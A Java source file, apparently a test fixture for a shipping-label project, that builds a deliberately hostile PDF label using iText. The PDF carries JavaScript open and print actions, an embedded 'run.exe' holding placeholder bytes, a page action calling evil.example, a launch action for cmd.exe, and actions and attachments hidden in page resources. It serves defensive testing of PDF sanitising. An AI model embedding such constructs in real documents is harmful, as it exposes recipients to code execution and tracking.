package org.packhaus.document;

import com.itextpdf.kernel.geom.PageSize;
import com.itextpdf.kernel.geom.Rectangle;
import com.itextpdf.kernel.pdf.PdfArray;
import com.itextpdf.kernel.pdf.PdfDictionary;
import com.itextpdf.kernel.pdf.PdfDocument;
import com.itextpdf.kernel.pdf.PdfName;
import com.itextpdf.kernel.pdf.PdfPage;
import com.itextpdf.kernel.pdf.PdfStream;
import com.itextpdf.kernel.pdf.PdfString;
import com.itextpdf.kernel.pdf.PdfWriter;
import com.itextpdf.kernel.pdf.action.PdfAction;
import com.itextpdf.kernel.pdf.annot.PdfFileAttachmentAnnotation;
import com.itextpdf.kernel.pdf.annot.PdfLinkAnnotation;
import com.itextpdf.kernel.pdf.annot.PdfTextAnnotation;
import com.itextpdf.kernel.pdf.canvas.PdfCanvas;
import com.itextpdf.kernel.pdf.filespec.PdfFileSpec;
import com.itextpdf.kernel.pdf.xobject.PdfFormXObject;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;

/** A label as an attacker who owns a carrier's account, or sits between, would send it. */
final class HostilePdf {
    static final byte[] PAYLOAD = "MZ-the-payload-MZ".repeat(20).getBytes(StandardCharsets.US_ASCII);

    private HostilePdf() {}

    static byte[] make() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (PdfDocument document = new PdfDocument(new PdfWriter(out))) {
            PdfPage page = document.addNewPage(new PageSize((float) Mm.toPoints(103), (float) Mm.toPoints(199)));
            document.getCatalog().setOpenAction(PdfAction.createJavaScript("app.alert('open')"));
            document.getCatalog().setAdditionalAction(PdfName.WP, PdfAction.createJavaScript("app.alert('print')"));
            PdfFileSpec file =
                    PdfFileSpec.createEmbeddedFileSpec(document, PAYLOAD, "run me", "run.exe", null, null, null);
            document.addFileAttachment("run.exe", file);
            page.setAdditionalAction(PdfName.O, PdfAction.createURI("http://evil.example/opened"));
            page.addAnnotation(new PdfLinkAnnotation(new Rectangle(0, 0, 200, 200))
                    .setAction(PdfAction.createLaunch(PdfFileSpec.createExternalFileSpec(document, "cmd.exe"))));
            page.addAnnotation(new PdfTextAnnotation(new Rectangle(10, 10, 20, 20)).setContents("a note"));
            page.addAnnotation(new PdfFileAttachmentAnnotation(new Rectangle(30, 30, 20, 20), file));

            PdfFormXObject inner = new PdfFormXObject(new Rectangle(0, 0, 100, 100));
            new PdfCanvas(inner, document).rectangle(10, 10, 40, 40).fill();
            hide(inner.getPdfObject(), document, file);
            PdfCanvas canvas = new PdfCanvas(page);
            canvas.addXObjectAt(inner, 50, 50);
            hide(page.getResources().getPdfObject(), document, file);
            new Pen(document)
                    .draw(
                            canvas,
                            new Style(false, 12, com.itextpdf.kernel.colors.ColorConstants.BLACK),
                            "Sendung 4711",
                            40,
                            300);
        }
        return out.toByteArray();
    }

    /** In places a page's drawing leads to. */
    private static void hide(PdfDictionary place, PdfDocument document, PdfFileSpec file) {
        PdfDictionary action = new PdfDictionary();
        action.put(PdfName.S, PdfName.JavaScript);
        action.put(PdfName.JS, new PdfString("app.alert('hidden')"));
        place.put(new PdfName("AA"), action.makeIndirect(document));
        place.put(new PdfName("Harmless"), new PdfArray(action));
        place.put(PdfName.AF, new PdfArray(file.getPdfObject()));
        place.put(PdfName.PieceInfo, new PdfDictionary(java.util.Map.of(new PdfName("X"), file.getPdfObject())));
        PdfStream metadata = new PdfStream("<x:xmpmeta>secret</x:xmpmeta>".getBytes(StandardCharsets.US_ASCII));
        metadata.put(PdfName.Type, PdfName.Metadata);
        place.put(PdfName.Metadata, metadata.makeIndirect(document));
    }
}
